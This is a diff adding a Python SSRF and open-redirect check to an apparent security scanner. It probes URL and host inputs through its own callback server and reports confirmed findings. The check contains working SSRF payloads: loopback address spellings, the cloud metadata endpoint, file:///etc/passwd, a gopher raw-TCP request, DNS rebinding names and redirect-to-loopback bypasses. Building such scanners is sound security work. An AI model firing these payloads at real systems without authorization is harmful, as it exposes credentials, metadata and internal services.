@@ -1,0 +1,603 @@
+"""SSRF and open redirect (category ssrf).
+
+For every URL- or host-carrying input the check asks, in two stages:
+
+1. Does the server fetch an attacker URL at all? (an OOB callback carrying the payload's token,
+   a DNS lookup of our name, or our canary body reflected in the response). Inputs without a spec
+   (guessed query parameters, common headers) are probed many per request, each with its own token.
+2. For inputs that fetch: how deep does the validation go? Loopback literals and their odd
+   spellings, a name whose DNS answer is internal (what a poisoned cache does), a name that
+   rebinds between lookups, a redirect from an allowed host to an internal one, the target's own
+   origin through 127.0.0.1 (compared with what we see directly), cloud metadata, and schemes
+   other than http(s).
+
+Internal reach is proven, never guessed: by an interaction on the OOB server's *inside* listener
+(bound on the target's loopback when the target shares this machine), or by internal content
+reflected in the response. Where neither is possible the finding says reach was not determined.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import re
+from collections.abc import AsyncIterator
+from dataclasses import dataclass, field
+from urllib.parse import urljoin, urlsplit
+
+from firebrick.context import ScanContext
+from firebrick.discovery.params import url_assemblies
+from firebrick.inject import send
+from firebrick.model import (
+    Confidence,
+    Evidence,
+    Exchange,
+    Finding,
+    InputKind,
+    Interaction,
+    Location,
+    Operation,
+    Param,
+    Severity,
+)
+
+CHECK = "ssrf"
+CATEGORY = "ssrf"
+SAFE_METHODS = {"GET", "HEAD", "OPTIONS"}
+SAFE_WRITE_METHODS = {"POST", "PUT"}  # allowed in safe mode only for inputs carrying URLs/hosts
+
+# Headers that servers sometimes fetch or build URLs from (REFERENCE.md).
+PROBE_HEADERS = ("Referer", "X-Forwarded-Host", "X-Original-URL", "X-Wap-Profile", "Forwarded")
+MAX_HEADER_PROBE_OPS = 8
+
+# Odd spellings of 127.0.0.1 that URL parsers and resolvers accept (REFERENCE.md).
+LOOPBACK_SPELLINGS = (
+    ("2130706433", "decimal integer"),
+    ("0x7f000001", "hex integer"),
+    ("0177.0.0.1", "octal first octet"),
+    ("127.1", "short form"),
+    ("127.000.000.001", "zero-padded"),
+    ("0.0.0.0", "unspecified address (Linux connects it to loopback)"),
+    ("[::ffff:127.0.0.1]", "IPv4-mapped IPv6"),
+    ("localhost", "the name localhost"),
+)
+METADATA_URL = "http://169.254.169.254/latest/meta-data/"
+METADATA_MARKERS = re.compile(
+    r"(ami-id|instance-id|security-credentials|iam/|computeMetadata|local-ipv4|AccessKeyId)"
+)
+PASSWD_MARKER = re.compile(r"root:[^:\n]*:0:0:")
+INTERNAL_GROUPS = ("loopback", "odd-spelling", "dns-internal", "rebinding", "redirect", "self", "metadata")
+
+
+@dataclass
+class Target:
+    """One input under test: a single parameter or a URL the server assembles from parts."""
+
+    op: Operation
+    label: str  # how the finding names the input
+    param: Param | None = None
+    parts: dict[str, Param] | None = None  # role -> Param for assembled URLs (host/port/path/scheme)
+
+    @property
+    def host_only(self) -> bool:
+        return self.param is not None and InputKind.URL not in self.param.kinds
+
+    def values(self, url: str) -> dict[str, object]:
+        """Place a URL payload into this input's request values."""
+        if self.param is not None:
+            if self.host_only:
+                return {self.param.display: urlsplit(url).netloc}
+            return {self.param.display: url}
+        assert self.parts is not None
+        split = urlsplit(url)
+        out: dict[str, object] = {}
+        host = split.netloc.rsplit("@", 1)[-1]
+        if "port" in self.parts and split.port is not None:
+            host = host[: host.rfind(":")] if not host.endswith("]") else host
+            out[self.parts["port"].display] = split.port
+        elif "port" in self.parts:
+            out[self.parts["port"].display] = 443 if split.scheme == "https" else 80
+        out[self.parts["host"].display] = host
+        if "path" in self.parts:
+            out[self.parts["path"].display] = (split.path or "/") + (f"?{split.query}" if split.query else "")
+        if "scheme" in self.parts:
+            out[self.parts["scheme"].display] = split.scheme
+        return out
+
+
+@dataclass
+class Probe:
+    group: str  # external | external-dns | loopback | odd-spelling | dns-internal | rebinding | redirect | self | metadata | scheme-file | scheme-https | scheme-gopher
+    label: str
+    url: str
+    token: str | None = None
+    snippet: str | None = None  # reflected text that proves an internal read
+    pattern: re.Pattern[str] | None = None  # reflected pattern that proves a read
+    exchange: Exchange | None = None
+    interactions: list[Interaction] = field(default_factory=list)
+    reflected: bool = False
+
+    @property
+    def http_hit(self) -> bool:
+        return any(i.protocol in ("http", "https") for i in self.interactions)
+
+    @property
+    def inside_hit(self) -> bool:
+        return any(i.listener == "inside" and i.protocol != "dns" for i in self.interactions)
+
+    @property
+    def dns_hit(self) -> bool:
+        return any(i.protocol == "dns" for i in self.interactions)
+
+    @property
+    def reached(self) -> bool:
+        """For internal probes: the fetch provably landed inside."""
+        return self.inside_hit or self.reflected
+
+    @property
+    def text(self) -> str:
+        return f"{self.label}: {self.url}"
+
+
+def _methods_allowed(ctx: ScanContext, op: Operation) -> bool:
+    if op.method in SAFE_METHODS or ctx.options.mode == "full":
+        return True
+    return op.method in SAFE_WRITE_METHODS  # every target here carries a URL/host input
+
+
+def targets(ctx: ScanContext) -> tuple[list[Target], list[tuple[Operation, list[Param]]]]:
+    """Declared inputs tested one by one, and guessed query params bundled per operation."""
+    single: list[Target] = []
+    bundles: list[tuple[Operation, list[Param]]] = []
+    for op in ctx.surface.operations:
+        if not _methods_allowed(ctx, op):
+            ctx.cover(CHECK, CATEGORY, op, None, "skipped", f"{op.method} is not sent in {ctx.options.mode} mode")
+            continue
+        assembled: set[str] = set()
+        for parts in url_assemblies(op):
+            single.append(Target(op, "+".join(p.display for p in parts.values()), parts=parts))
+            assembled |= {p.display for p in parts.values()}
+        guessed = [p for p in op.params if p.guessed and p.location is Location.QUERY]
+        if guessed:
+            bundles.append((op, guessed))
+        for param in op.params:
+            if param.guessed or param.display in assembled:
+                continue
+            if param.kinds & {InputKind.URL, InputKind.HOST}:
+                single.append(Target(op, param.display, param=param))
+    return single, bundles
+
+
+async def run(ctx: ScanContext) -> AsyncIterator[Finding]:
+    oob = ctx.oob
+    if oob is None:
+        ctx.warn("SSRF probes need the OOB server; it is off, so only reflected fetches can be seen")
+        return
+    single, bundles = targets(ctx)
+    # Stage 1 for every input at once (the client enforces rate and concurrency).
+    stage1 = await asyncio.gather(*(_stage1(ctx, t) for t in single))
+    found_in_bundles = await asyncio.gather(*(_bundle(ctx, op, params) for op, params in bundles))
+    header_targets = await _header_bundles(ctx)
+    fetching: list[tuple[Target, list[Probe]]] = []
+    for target, probes in zip(single, stage1, strict=True):
+        finding = _open_redirect(ctx, target, probes)
+        if finding is not None:
+            yield finding
+        if any(p.http_hit or p.reflected for p in probes):
+            fetching.append((target, probes))
+        elif any(p.dns_hit for p in probes):
+            yield _dns_only(target, probes)
+        else:
+            _defer_stage1(ctx, target, probes)
+    for found in [*found_in_bundles, header_targets]:
+        fetching.extend(found)
+    self_ref = await _self_reference(ctx) if fetching else None
+    results = await asyncio.gather(*(_stage2(ctx, t, p, self_ref) for t, p in fetching))
+    for findings in results:
+        for finding in findings:
+            yield finding
+
+
+# -- stage 1 ------------------------------------------------------------------------------------
+async def _fire(ctx: ScanContext, target: Target, probe: Probe) -> Probe:
+    assert ctx.oob is not None
+    probe.exchange = await send(
+        ctx.client, target.op, target.values(probe.url), check=CHECK, url_filler=_filler(ctx)
+    )
+    _observe(ctx, probe)
+    return probe
+
+
+def _observe(ctx: ScanContext, probe: Probe) -> None:
+    """Read what the probe's exchange and the OOB server say about it."""
+    assert ctx.oob is not None
+    body = probe.exchange.body_text if probe.exchange else ""
+    if probe.token:
+        probe.interactions = ctx.oob.interactions(probe.token)
+        if ctx.oob.canary(probe.token) in body:
+            probe.reflected = True
+    if probe.snippet and probe.snippet in body:
+        probe.reflected = True
+    if probe.pattern and probe.pattern.search(body):
+        probe.reflected = True
+
+
+def _filler(ctx: ScanContext):  # type: ignore[no-untyped-def]
+    """URL for URL inputs a probe does not target: ours, never a third party's."""
+    assert ctx.oob is not None
+    oob = ctx.oob
+    return lambda: oob.http_url(oob.new_token("filler"))
+
+
+async def _stage1(ctx: ScanContext, target: Target) -> list[Probe]:
+    oob = ctx.oob
+    assert oob is not None
+    t1, t2 = oob.new_token(f"{target.op.key} {target.label}"), oob.new_token(f"{target.op.key} {target.label} dns")
+    if target.host_only:
+        # A bare host input cannot carry a path: the token rides in the name (Host header, DNS).
+        first = Probe("external", "our host name", f"http://{oob.dns_name(t1)}:{oob.http_port}/{t1}", t1)
+    else:
+        first = Probe("external", "our callback URL (IP literal)", oob.http_url(t1), t1)
+    second = Probe("external-dns", "our callback URL (DNS name)", f"http://{oob.dns_name(t2)}:{oob.http_port}/{t2}", t2)
+    return list(await asyncio.gather(_fire(ctx, target, first), _fire(ctx, target, second)))
+
+
+async def _bundle(ctx: ScanContext, op: Operation, params: list[Param]) -> list[tuple[Target, list[Probe]]]:
+    """Guessed query params: all in one request, each with its own token."""
+    oob = ctx.oob
+    assert oob is not None
+    probes = {p.display: Probe("external", "our callback URL (IP literal)", "", oob.new_token(f"{op.key} {p.display}")) for p in params}
+    for probe in probes.values():
+        probe.url = oob.http_url(probe.token or "")
+    exchange = await send(ctx.client, op, {d: p.url for d, p in probes.items()}, check=CHECK, url_filler=_filler(ctx))
+    found = []
+    for param in params:
+        probe = probes[param.display]
+        probe.exchange = exchange
+        _observe(ctx, probe)
+        if probe.http_hit or probe.reflected:
+            param.guessed = False  # it exists: the server used it
+            param.kinds.add(InputKind.URL)
+            found.append((Target(op, param.display, param=param), [probe]))
+    tokens = {p.token for p in probes.values() if p.token and not (p.http_hit or p.reflected)}
+    ctx.cover(CHECK, CATEGORY, op, f"{len(params)} guessed query parameters", "passed" if not found else "failed",
+              "one request, one token per parameter")
+    ctx.defer(tokens, lambda seen, op=op, probes=probes: _late(op, probes, seen))
+    return found
+
+
+async def _header_bundles(ctx: ScanContext) -> list[tuple[Target, list[Probe]]]:
+    """Common headers that servers fetch or build URLs from, one request per operation."""
+    oob = ctx.oob
+    assert oob is not None
+    ops = [op for op in ctx.surface.operations if op.method == "GET" and op.graphql is None][:MAX_HEADER_PROBE_OPS]
+    found: list[tuple[Target, list[Probe]]] = []
+
+    async def one(op: Operation) -> None:
+        probes: dict[str, Probe] = {}
+        for name in PROBE_HEADERS:
+            token = oob.new_token(f"{op.key} header:{name}")
+            if name == "X-Forwarded-Host":
+                url = f"{oob.dns_name(token)}:{oob.http_port}"
+            elif name == "Forwarded":
+                url = f"for=192.0.2.1;host={oob.dns_name(token)}:{oob.http_port}"
+            else:
+                url = oob.http_url(token)
+            probes[name] = Probe("external", f"header {name}", url, token)
+        exchange = await send(ctx.client, op, {}, check=CHECK, url_filler=_filler(ctx),
+                              extra_headers={n: p.url for n, p in probes.items()})
+        for name, probe in probes.items():
+            probe.exchange = exchange
+            _observe(ctx, probe)
+            if probe.http_hit or probe.reflected:
+                host_header = name in ("X-Forwarded-Host", "Forwarded")
+                param = Param(name, Location.HEADER, kinds={InputKind.HOST if host_header else InputKind.URL})
+                found.append((Target(op, param.display, param=param), [probe]))
+        ctx.defer({p.token for p in probes.values() if p.token}, lambda seen, op=op, probes=probes: _late(op, probes, seen))
+
+    await asyncio.gather(*(one(op) for op in ops))
+    return found
+
+
+def _late(op: Operation, probes: dict[str, Probe], seen: dict[str, list[Interaction]]) -> list[Finding]:
+    """A bundled payload fetched after the check moved on (an asynchronous job)."""
+    findings = []
+    for display, probe in probes.items():
+        hits = seen.get(probe.token or "", [])
+        if probe.http_hit or probe.reflected or not hits:
+            continue
+        probe.interactions = hits
+        target = Target(op, display if ":" in display else f"header:{display}")
+        findings.append(_late_finding(target, probe))
+    return findings
+
+
+def _defer_stage1(ctx: ScanContext, target: Target, probes: list[Probe]) -> None:
+    def verdict(seen: dict[str, list[Interaction]]) -> list[Finding]:
+        for probe in probes:
+            probe.interactions = seen.get(probe.token or "", [])
+        if any(p.http_hit for p in probes):
+            return [_late_finding(target, next(p for p in probes if p.http_hit))]
+        if any(p.dns_hit for p in probes):
+            return [_dns_only(target, probes)]
+        ctx.cover(CHECK, CATEGORY, target.op, target.label, "passed", "no fetch of our URL observed")
+        return []
+
+    ctx.defer({p.token for p in probes if p.token}, verdict)
+
+
+def _late_finding(target: Target, probe: Probe) -> Finding:
+    return Finding(
+        kind="ssrf.external-fetch",
+        category=CATEGORY,
+        title="Server fetches attacker-supplied URLs (asynchronously)",
+        severity=Severity.MEDIUM,
+        confidence=Confidence.CONFIRMED,
+        operation=target.op.key,
+        input=target.label,
+        description=(
+            f"The server called our URL given in {target.label} after answering the request "
+            "(a background job). Internal reach was not probed for this input: the fetch happens "
+            "too late for the depth probes to be attributed."
+        ),
+        evidence=Evidence(
+            summary=f"OOB callback for token {probe.token} after the response",
+            exchanges=[probe.exchange] if probe.exchange else [],
+            interactions=probe.interactions,
+            payloads_worked=[probe.text],
+        ),
+    )
+
+
+def _dns_only(target: Target, probes: list[Probe]) -> Finding:
+    dns = [i for p in probes for i in p.interactions if i.protocol == "dns"]
+    return Finding(
+        kind="ssrf.dns-lookup-only",
+        category=CATEGORY,
+        title="Server resolves attacker-supplied host names (no connection seen)",
+        severity=Severity.LOW,
+        confidence=Confidence.POSSIBLE,
+        operation=target.op.key,
+        input=target.label,
+        description=(
+            f"A name we put in {target.label} was looked up by the target's resolver, but no HTTP "
+            "request reached us. Egress filtering may be stopping the fetch, or the server only "
+            "logs or previews names. A lookup alone proves little; the name still reached DNS."
+        ),
+        evidence=Evidence(
+            summary=f"{len(dns)} DNS queries for our name, no HTTP callback",
+            exchanges=[p.exchange for p in probes if p.exchange][:2],
+            interactions=dns[:10],
+            payloads_worked=[p.text for p in probes if p.dns_hit],
+            payloads_failed=[p.text for p in probes if not p.dns_hit],
+        ),
+    )
+
+
+# -- open redirect --------------------------------------------------------------------------------
+def _open_redirect(ctx: ScanContext, target: Target, probes: list[Probe]) -> Finding | None:
+    """A response that sends the user to our URL: Location header or meta refresh."""
+    for probe in probes:
+        ex = probe.exchange
+        if ex is None or ex.status is None:
+            continue
+        location = ex.response_headers.get("location", "")
+        meta = re.search(r"<meta[^>]+http-equiv=[\"']?refresh[^>]+url=([^\"'>]+)", ex.body_text[:20000], re.I)
+        dest = location or (meta.group(1) if meta else "")
+        if not dest or probe.token is None:
+            continue
+        absolute = urljoin(ex.url, dest)
+        if probe.token in absolute and urlsplit(absolute).netloc != urlsplit(ex.url).netloc:
+            how = f"{ex.status} Location: {location}" if location else f"meta refresh to {dest}"
+            return Finding(
+                kind="open-redirect",
+                category=CATEGORY,
+                title="Open redirect: the server redirects to any URL it is given",
+                severity=Severity.MEDIUM,
+                confidence=Confidence.CONFIRMED,
+                operation=target.op.key,
+                input=target.label,
+                description=(
+                    f"{target.label} is used as a redirect target without validation ({how}). "
+                    "Attackers use it for phishing from your domain, to steal OAuth codes and tokens "
+                    "through redirect_uri, and to bounce SSRF past allowlists that trust your host."
+                ),
+                evidence=Evidence(summary=how, exchanges=[ex], payloads_worked=[probe.text]),
+            )
+    return None
+
+
+# -- stage 2 ------------------------------------------------------------------------------------
+@dataclass
+class SelfReference:
+    """A page of the target as the scanner sees it, to recognise it when fetched via loopback."""
+
+    path: str
+    snippet: str
+    port: int
+
+
+async def _self_reference(ctx: ScanContext) -> SelfReference | None:
+    split = urlsplit(ctx.client.base_url)
+    port = split.port or (443 if split.scheme == "https" else 80)
+    candidates = []
+    if ctx.surface.spec_url and ctx.surface.spec_url.startswith(("http://", "https://")):
+        candidates.append(urlsplit(ctx.surface.spec_url).path)
+    candidates += [op.path for op in ctx.surface.operations if op.method == "GET" and not any(p.required for p in op.params) and "{" not in op.path][:2]
+    candidates.append(split.path or "/")
+    for path in dict.fromkeys(candidates):
+        ex = await ctx.client.request("GET", path, check=CHECK, follow_redirects=False)
+        body = ex.body_text
+        if ex.status == 200 and len(body) >= 64:
+            start = len(body) // 3
+            return SelfReference(path, body[start : start + 48], port)
+    return None
+
+
+def _depth_probes(ctx: ScanContext, target: Target, self_ref: SelfReference | None, reflects: bool) -> list[Probe]:
+    oob = ctx.oob
+    assert oob is not None
+    probes: list[Probe] = []
+
+    def tok(what: str) -> str:
+        return oob.new_token(f"{target.op.key} {target.label} {what}")
+
+    inside = oob.inside_port is not None
+    if not target.host_only:
+        if inside:
+            t = tok("loopback")
+            probes.append(Probe("loopback", "loopback literal 127.0.0.1", oob.inside_url(t, host="127.0.0.1"), t))
+            for host, what in LOOPBACK_SPELLINGS:
+                t = tok(host)
+                probes.append(Probe("odd-spelling", f"{host} ({what})", oob.inside_url(t, host=host), t))
+        if self_ref is not None and reflects:
+            probes.append(Probe("self", "the target's own origin via 127.0.0.1",
+                                f"http://127.0.0.1:{self_ref.port}{self_ref.path}", snippet=self_ref.snippet))
+            probes.append(Probe("odd-spelling", "the target's own origin via 2130706433",
+                                f"http://2130706433:{self_ref.port}{self_ref.path}", snippet=self_ref.snippet))
+        if reflects:
+            probes.append(Probe("metadata", "cloud metadata 169.254.169.254", METADATA_URL, pattern=METADATA_MARKERS))
+            probes.append(Probe("scheme-file", "file: scheme", "file:///etc/passwd", pattern=PASSWD_MARKER))
+        t = tok("https")
+        if oob.https_port:
+            probes.append(Probe("scheme-https", "https: to our listener (self-signed)", oob.https_url(t), t))
+        if ctx.options.mode == "full" and inside:
+            t = tok("gopher")
+            probes.append(Probe("scheme-gopher", "gopher: scheme",
+                                f"gopher://127.0.0.1:{oob.inside_port}/_GET%20/{t}%20HTTP/1.0%0d%0a%0d%0a", t))
+    # Names: the token rides in the name, so these work for host-only inputs too.
+    port = oob.inside_port if inside else (self_ref.port if self_ref and reflects else None)
+    if port is not None:
+        suffix_for = (lambda t: f"/{t}") if inside else (lambda t: self_ref.path if self_ref else "/")
+        t = tok("dns-internal")
+        name = oob.name_answering(t, "127.0.0.1")
+        probes.append(Probe("dns-internal", "a name whose DNS answer is 127.0.0.1 (a poisoned or internal name)",
+                            f"http://{name}:{port}{suffix_for(t)}", t, snippet=None if inside else self_ref.snippet if self_ref else None))
+        t = tok("rebinding")
+        name = oob.rebinding_name(t, "127.0.0.1")
+        probes.append(Probe("rebinding", "a name that answers public first, then 127.0.0.1 (DNS rebinding)",
+                            f"http://{name}:{port}{suffix_for(t)}", t, snippet=None if inside else self_ref.snippet if self_ref else None))
+    if not target.host_only and (inside or (self_ref and reflects)):
+        t = tok("redirect")
+        t_in = tok("redirect-landing")
+        landing = oob.inside_url(t_in, host="127.0.0.1") if inside else f"http://127.0.0.1:{self_ref.port}{self_ref.path}"  # type: ignore[union-attr]
+        oob.set_redirect(t, landing)
+        # The token we watch is the landing one: the hop to the inside is what proves the bypass.
+        probes.append(Probe("redirect", "our public URL redirecting to 127.0.0.1", oob.http_url(t), t_in,
+                            snippet=None if inside else self_ref.snippet if self_ref else None))
+    return probes
+
+
+async def _stage2(ctx: ScanContext, target: Target, first: list[Probe], self_ref: SelfReference | None) -> list[Finding]:
+    reflects = any(p.reflected for p in first)
+    probes = _depth_probes(ctx, target, self_ref, reflects)
+    await asyncio.gather(*(_fire(ctx, target, p) for p in probes))
+    return _verdict(ctx, target, first, probes, reflects)
+
+
+def _verdict(ctx: ScanContext, target: Target, first: list[Probe], probes: list[Probe], reflects: bool) -> list[Finding]:
+    worked = [p for p in probes if p.group in INTERNAL_GROUPS and p.reached]
+    refused = [p for p in probes if p.group in INTERNAL_GROUPS and not p.reached]
+    findings: list[Finding] = []
+    exchanges = [p.exchange for p in first if p.exchange][:1]
+
+    def evidence(summary: str, hits: list[Probe], **details: object) -> Evidence:
+        return Evidence(
+            summary=summary,
+            exchanges=exchanges + [p.exchange for p in hits if p.exchange][:3],
+            interactions=[i for p in [*first, *hits] for i in p.interactions][:20],
+            payloads_worked=[p.text for p in hits],
+            payloads_failed=[p.text for p in refused],
+            details={"reflected": any(p.reflected for p in hits), **details},
+        )
+
+    for probe in probes:  # schemes are their own finding, whatever the address validation does
+        if probe.group == "scheme-file" and probe.reflected:
+            findings.append(Finding(
+                kind="ssrf.scheme", category=CATEGORY, severity=Severity.CRITICAL, confidence=Confidence.CONFIRMED,
+                title="SSRF reads local files through the file: scheme",
+                operation=target.op.key, input=target.label,
+                description=f"{target.label} accepts file: URLs and returns the file: /etc/passwd came back in the response.",
+                evidence=evidence("file:///etc/passwd content reflected", [probe]),
+            ))
+        if probe.group == "scheme-gopher" and probe.reached:
+            findings.append(Finding(
+                kind="ssrf.scheme", category=CATEGORY, severity=Severity.HIGH, confidence=Confidence.CONFIRMED,
+                title="SSRF speaks raw TCP through the gopher: scheme",
+                operation=target.op.key, input=target.label,
+                description=f"{target.label} accepts gopher: URLs, which let an attacker write arbitrary bytes to internal services (Redis, SMTP, memcached).",
+                evidence=evidence("gopher payload reached the inside listener", [probe]),
+            ))
+
+    literal = [p for p in worked if p.group in ("loopback", "self", "metadata")]
+    if literal:
+        # No address validation at all (or none we could distinguish): one finding, all evidence.
+        hits = worked
+        read = any(p.reflected for p in hits)
+        metadata = any(p.group == "metadata" for p in hits)
+        findings.append(Finding(
+            kind="ssrf.internal-read" if read else "ssrf.internal-reach",
+            category=CATEGORY,
+            severity=Severity.CRITICAL if read else Severity.HIGH,
+            confidence=Confidence.CONFIRMED,
+            title=("SSRF reads cloud metadata and internal services" if metadata else
+                   "SSRF reads internal services" if read else "SSRF reaches internal addresses (blind)"),
+            operation=target.op.key, input=target.label,
+            description=(
+                f"The server fetches any URL given in {target.label}, including internal addresses: "
+                + ("the internal content came back in the response." if read else
+                   "our listener on the target's loopback received the request.")
+                + f" {len(hits)} of {len(hits) + len(refused)} internal payloads got through."
+            ),
+            evidence=evidence(f"{len(hits)} internal payloads reached, {len(refused)} refused", hits,
+                              metadata=metadata),
+        ))
+    elif worked:
+        # Literal loopback was refused: the validation exists and these are its gaps.
+        kinds = {
+            "odd-spelling": ("ssrf.url-validation-bypass", "SSRF guard bypassed by odd spellings of 127.0.0.1",
+                             "blocks the literal 127.0.0.1 but not other spellings of the same address: it checks the URL text, not the address."),
+            "dns-internal": ("ssrf.dns-resolved-internal", "SSRF through a name that resolves inside (DNS poisoning reaches internal hosts)",
+                             "validates the URL text but not the address its name resolves to: any name that resolves internally (a poisoned cache entry, a rebinding service, an attacker's own zone) gets in."),
+            "rebinding": ("ssrf.dns-rebinding", "SSRF through DNS rebinding (time-of-check/time-of-use)",
+                          "checks the address a name resolves to, then lets the HTTP client resolve it again: the second answer is internal."),
+            "redirect": ("ssrf.redirect-to-internal", "SSRF through redirects: hops are not re-checked",
+                         "validates the first URL but follows a redirect from an allowed host to an internal one."),
+        }
+        groups = {p.group for p in worked}
+        for group, (kind, title, why) in kinds.items():
+            if group not in groups or (group == "rebinding" and "dns-internal" in groups):
+                continue  # a static internal name getting in already explains a rebinding hit
+            hits = [p for p in worked if p.group == group]
+            read = any(p.reflected for p in hits)
+            findings.append(Finding(
+                kind=kind, category=CATEGORY, title=title,
+                severity=Severity.CRITICAL if read else Severity.HIGH,
+                confidence=Confidence.CONFIRMED,
+                operation=target.op.key, input=target.label,
+                description=f"The validation of {target.label} {why}"
+                            + (" The internal content came back in the response." if read else
+                               " Our listener on the target's loopback received the request."),
+                evidence=evidence(f"{len(hits)} bypass payloads reached inside; the literal 127.0.0.1 was refused", hits),
+            ))
+    else:
+        provable = any(p.group in ("loopback", "dns-internal") for p in probes) or any(p.group == "self" for p in probes)
+        if provable:
+            ctx.cover(CHECK, CATEGORY, target.op, target.label, "passed",
+                      f"fetches user URLs; refused all {len(refused)} internal payloads")
+        else:
+            hit = next(p for p in first if p.http_hit or p.reflected)
+            findings.append(Finding(
+                kind="ssrf.external-fetch", category=CATEGORY,
+                title="Server fetches attacker-supplied URLs (internal reach not determined)",
+                severity=Severity.MEDIUM, confidence=Confidence.CONFIRMED,
+                operation=target.op.key, input=target.label,
+                description=(
+                    f"The server fetched our URL from {target.label}. Whether it also reaches internal "
+                    "addresses could not be proven from here: the response does not reflect the fetch "
+                    "and the target does not share our loopback. Treat it as SSRF until the guard is verified."
+                ),
+                evidence=evidence("OOB callback received", [hit]),
+            ))
+    if findings:
+        ctx.cover(CHECK, CATEGORY, target.op, target.label, "failed", ", ".join(sorted({f.kind for f in findings})))
+    return findings
